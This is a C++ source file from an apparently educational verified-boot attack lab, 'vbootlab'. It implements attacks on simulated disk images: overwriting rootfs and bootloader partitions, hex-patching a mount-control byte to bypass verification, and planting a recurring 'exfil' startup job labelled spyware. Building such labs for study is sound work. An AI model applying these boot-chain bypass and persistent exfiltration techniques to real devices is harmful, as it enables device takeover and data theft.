/*
 * Copyright (C) 2026 The vbootlab Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

#include "vbootlab/attacks.h"

#include <chrono>

#include "vbootlab/boot_chain.h"
#include "vbootlab/error.h"
#include "vbootlab/rootfs.h"

namespace vbootlab::attack {

namespace {

using Clock = std::chrono::steady_clock;

double SecondsSince(Clock::time_point start) {
    return std::chrono::duration<double>(Clock::now() - start).count();
}

void CheckSameSize(const disk::DiskImage& victim, const disk::DiskImage& attacker, int index) {
    if (victim.partition_size(index) != attacker.partition_size(index)) {
        throw Error(Errc::SizeMismatch,
                    "partition " + std::to_string(index) + ": victim " +
                        std::to_string(victim.partition_size(index)) + " bytes, attacker " +
                        std::to_string(attacker.partition_size(index)) +
                        "; rebuild the attacker image with a matching layout");
    }
}

}  // namespace

const char* ExploitName(Exploit exploit) {
    return exploit == Exploit::Overwrite ? "Overwrite" : "HexPatch";
}

AttackReport AttackOverwrite(disk::DiskImage& victim, const disk::DiskImage& attacker,
                             AttackOptions options) {
    auto start = Clock::now();
    CheckSameSize(victim, attacker, disk::kRootfsPartition);
    CheckSameSize(victim, attacker, disk::kBootloaderPartition);

    boot::BootOutcome preflight = boot::Boot(attacker);
    if (const auto* failed = std::get_if<boot::RecoveryTriggered>(&preflight)) {
        throw Error(Errc::InconsistentAttackerImage,
                    "attacker image does not boot by itself (" +
                        std::string(boot::RecoveryReasonName(failed->reason)) + ")");
    }

    AttackReport report;
    report.exploit = Exploit::Overwrite;
    disk::BitwiseCopyPartition(attacker, victim, disk::kRootfsPartition);
    report.bytes_written += victim.partition_size(disk::kRootfsPartition);
    if (!options.rootfs_only) {
        disk::BitwiseCopyPartition(attacker, victim, disk::kBootloaderPartition);
        report.bytes_written += victim.partition_size(disk::kBootloaderPartition);
    }
    report.bootloader_replaced = !options.rootfs_only;
    report.victim_users_preserved = false;
    report.duration_seconds = SecondsSince(start);
    return report;
}

AttackReport AttackHexpatch(disk::DiskImage& victim, ByteSpan replacement_bootloader,
                            AttackOptions options) {
    auto start = Clock::now();
    if (!options.rootfs_only) {
        if (replacement_bootloader.size() != victim.partition_size(disk::kBootloaderPartition)) {
            throw Error(Errc::BadReplacement,
                        "replacement bootloader is " +
                            std::to_string(replacement_bootloader.size()) + " bytes, partition 12 is " +
                            std::to_string(victim.partition_size(disk::kBootloaderPartition)));
        }
        boot::BootConfig cfg;
        try {
            cfg = boot::ParseBootConfig(replacement_bootloader);
        } catch (const Error& e) {
            throw Error(Errc::BadReplacement, std::string("replacement does not parse: ") + e.what());
        }
        if (cfg.verify) {
            throw Error(Errc::BadReplacement, "replacement bootloader still enables verification");
        }
    }

    ByteSpan rootfs = victim.PartitionView(disk::kRootfsPartition);
    if (rootfs.size() <= rootfs::kControlByteOffset ||
        rootfs[rootfs::kControlByteOffset] != rootfs::kControlEnforced) {
        throw Error(Errc::AlreadyPatched, "mount-control byte at 0x467 is not 0xff");
    }

    AttackReport report;
    report.exploit = Exploit::HexPatch;
    victim.PatchByte(disk::kRootfsPartition, rootfs::kControlByteOffset, rootfs::kControlOpen);
    report.bytes_written = 1;
    if (!options.rootfs_only) {
        victim.WritePartition(disk::kBootloaderPartition, replacement_bootloader);
        report.bytes_written += replacement_bootloader.size();
    }
    report.bootloader_replaced = !options.rootfs_only;
    report.victim_users_preserved = true;
    report.duration_seconds = SecondsSince(start);
    return report;
}

void InstallSpyware(disk::DiskImage& img, std::string_view path, std::string_view dest,
                    uint32_t every_minutes) {
    auto has_space = [](std::string_view s) {
        return s.find_first_of(" \t\n\r") != std::string_view::npos;
    };
    if (path.empty() || dest.empty() || has_space(path) || has_space(dest)) {
        throw Error(Errc::InvalidRecord, "spyware path and destination must be single words");
    }
    rootfs::MountHandle mount = rootfs::MountRootfs(img, rootfs::MountMode::ReadWrite);
    mount.InstallStartupJob(
        {every_minutes, "exfil " + std::string(path) + " " + std::string(dest)});
}

}  // namespace vbootlab::attack
